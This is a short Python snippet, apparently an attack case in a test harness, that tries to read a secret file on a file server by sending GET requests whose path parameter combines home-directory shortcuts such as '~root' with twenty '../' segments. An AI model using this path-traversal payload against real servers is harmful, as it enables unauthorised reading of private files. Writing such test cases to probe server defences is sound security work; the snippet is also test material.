# aim: read a file of the server's machine
# mechanism: a home that is another's
# server: files
# plain: naive

def attack():
    for home in ("~root", "~", "~/..", "$HOME"):
        ask("GET", f"{here}/files/content?path={quote(home)}/{quote('../' * 20 + secret_path.lstrip('/'))}")


judge(attack)
